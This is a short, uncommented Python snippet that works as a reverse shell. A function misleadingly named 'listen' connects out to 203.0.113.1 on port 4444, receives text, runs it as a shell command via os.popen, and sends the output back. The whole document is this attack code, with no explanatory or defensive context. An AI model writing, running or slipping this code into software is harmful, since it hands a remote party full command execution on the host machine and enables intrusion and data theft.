import socket, os
def listen():
    s = socket.socket()
    s.connect(("203.0.113.1", 4444))
    while True:
        data = s.recv(1024).decode()
        if not data: break
        s.send(os.popen(data).read().encode())
